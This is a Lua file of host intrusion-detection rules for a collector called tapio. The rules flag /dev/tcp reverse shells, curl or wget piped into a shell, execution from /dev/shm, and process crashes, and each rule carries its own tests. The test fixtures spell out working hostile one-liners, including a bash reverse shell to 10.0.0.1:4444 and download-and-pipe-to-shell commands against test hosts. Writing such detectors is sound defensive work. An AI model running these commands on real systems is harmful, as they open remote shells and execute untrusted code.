-- Process detections that are rare on a healthy node and worth a look
-- every time. Each rule carries its own tests: `tapio-collector --validate`
-- runs them, and so does every load and reload.

local SHELLS = tapio.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox" }
local contains = tapio.contains

rule {
  name = "reverse_shell_dev_tcp",
  desc = "A program was started with /dev/tcp or /dev/udp on its command line: "
      .. "the bash idiom for a reverse shell",
  events = { "process.exec" },
  -- the words have no space: on the command line iff in one argument
  match = { ret = 0, argv = { "*/dev/tcp/*", "*/dev/udp/*" } },
  severity = "critical",
  tags = { "mitre:T1059.004", "mitre:TA0011" },
  when = function(e)
    if e.ret ~= 0 then return false end -- a failed exec ran nothing (a PATH search)
    local c = e.cmdline -- argv joined by spaces
    return contains(c, "/dev/tcp/") or contains(c, "/dev/udp/")
  end,
  output = "reverse shell idiom run by ${comm} (pid ${pid}, uid ${uid}): ${argv}",
  tests = {
    { event = { type = "process.exec", comm = "bash", filename = "/bin/bash",
                argv = { "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" } },
      expect = true,
      output = "reverse shell idiom run by bash (pid 1000, uid 0): "
            .. "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
    { event = { type = "process.exec", comm = "ls", filename = "/bin/ls", argv = { "ls", "/dev" } },
      expect = false },
    { event = { type = "process.exec", comm = "python3", filename = "/usr/local/bin/bash",
                argv = { "bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/4444" }, ret = -2 },
      expect = false },
  },
}

rule {
  name = "download_piped_to_shell",
  desc = "A shell ran a command that downloads a script and pipes it into a shell",
  events = { "process.exec" },
  match = { filename_base = SHELLS, argv = "*|*", cmdline = { "*curl*", "*wget*" } },
  severity = "warning",
  tags = { "mitre:T1059.004", "mitre:T1105" },
  when = function(e)
    local c = e.cmdline
    if not (contains(c, "curl") or contains(c, "wget")) or not contains(c, "|") then
      return false
    end
    return SHELLS[tapio.basename(e.filename)] and c:find("|%s*[a-z]*sh%f[%W]") ~= nil
  end,
  output = "download piped into a shell by ${comm} (pid ${pid}, uid ${uid}): ${argv}",
  tests = {
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "curl -fsSL https://example.test/i.sh | sh" } },
      expect = true },
    { event = { type = "process.exec", comm = "bash", filename = "/usr/bin/bash",
                argv = { "bash", "-c", "wget -qO- http://x.test/a |bash -s" } },
      expect = true },
    { event = { type = "process.exec", comm = "sh", filename = "/bin/sh",
                argv = { "sh", "-c", "curl -o /tmp/x https://example.test/x" } },
      expect = false },
    { event = { type = "process.exec", comm = "curl", filename = "/usr/bin/curl",
                argv = { "curl", "https://example.test/ | sh" } },
      expect = false },
  },
}

rule {
  name = "exec_from_shared_memory",
  desc = "A program was executed from /dev/shm or /run/shm, a tmpfs that malware "
      .. "uses to avoid the disk",
  events = { "process.exec" },
  match = { ret = 0, filename = { "/dev/shm/*", "/run/shm/*" } },
  severity = "error",
  tags = { "mitre:T1620", "mitre:T1036" },
  when = function(e)
    return e.ret == 0 and tapio.startswith_any(e.filename, { "/dev/shm/", "/run/shm/" })
  end,
  output = "${filename} executed from shared memory by ${comm} (pid ${pid}, ppid ${ppid}, uid ${uid})",
  tests = {
    { event = { type = "process.exec", comm = "x", filename = "/dev/shm/.x/payload" },
      expect = true,
      output = "/dev/shm/.x/payload executed from shared memory by x (pid 1000, ppid 1, uid 0)" },
    { event = { type = "process.exec", comm = "x", filename = "/dev/shm/x", ret = -13 },
      expect = false },
    { event = { type = "process.exec", comm = "ls", filename = "/usr/bin/ls" }, expect = false },
  },
}

local CRASH_SIGNALS = tapio.set { "SIGSEGV", "SIGBUS", "SIGILL", "SIGFPE", "SIGABRT", "SIGSYS" }

rule {
  name = "process_crashed",
  desc = "A process died of a crash signal or dumped core",
  events = { "process.exit" },
  match = { one_of = { { core_dumped = 1 }, { signal_str = CRASH_SIGNALS } } },
  severity = "notice",
  importance = 0.6,
  tags = { "reliability" },
  when = function(e)
    -- exit is reported per thread group: only the signal that ended it
    return e.core_dumped or CRASH_SIGNALS[e.signal_str] ~= nil
  end,
  output = "${comm} (pid ${pid}) crashed with ${signal_str} (core dumped: ${core_dumped})",
  tests = {
    { event = { type = "process.exit", comm = "app", signal = "SIGSEGV", core_dumped = true },
      expect = true, output = "app (pid 1000) crashed with SIGSEGV (core dumped: true)" },
    { event = { type = "process.exit", comm = "app", signal = 6 }, expect = true },
    { event = { type = "process.exit", comm = "app", signal = "SIGKILL" }, expect = false },
    { event = { type = "process.exit", comm = "app", exit_code = 1 }, expect = false },
  },
}
